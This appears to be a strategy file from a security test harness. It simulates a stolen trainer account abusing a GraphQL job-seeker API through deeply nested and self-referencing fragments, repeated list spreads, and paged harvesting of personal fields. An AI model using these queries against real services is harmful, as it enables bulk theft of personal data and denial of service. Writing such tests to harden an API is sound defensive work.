import { trainer } from '../accounts.js';
import type { Strategy } from './strategy.js';
import { traineeFields } from './queries.js';

export const fragments: Strategy = {
  name: 'fragments',
  attacks: [15],
  does: 'Hides fields, lists and page sizes in fragments within fragments, and the same list many times in one operation.',
  isQuick: false,
  stolen: [trainer(10)],
  seconds: 120,
  pauseMs: 500,
  act: async (thief) => {
    const chain = Array.from(
      { length: 20 },
      (_, n) => `fragment F${String(n)} on JobSeeker { ...F${String(n + 1)} }`,
    ).join('\n');
    const parts = `${chain}\nfragment F20 on JobSeeker { ${traineeFields} }\nfragment L on Query { b: jobSeekers(first: 50) { nodes { ...F0 } } }`;
    await thief.ask(`{ ...L a: jobSeekers(first: 50) { nodes { ...F0 } } }\n${parts}`);
    await thief.ask(`{ ...L ...L ... on Query { ...L } }\n${parts}`);
    await thief.ask(`{ ...C } fragment C on Query { ...C jobSeekers(first: 50) { nodes { id } } }`);
    let after: string | undefined;
    for (let page = 0; page < 12; page++) {
      const query = `query P($after: String) { jobSeekers(first: 50, after: $after) { nodes { ...F0 } pageInfo { endCursor } } }\n${parts}`;
      const { data } = await thief.ask(query, { variables: { after } });
      after =
        (data as { readonly jobSeekers?: { readonly pageInfo: { readonly endCursor: string | null } } } | null)
          ?.jobSeekers?.pageInfo.endCursor ?? undefined;
      if (after === undefined || thief.isCutOff) return;
    }
  },
};
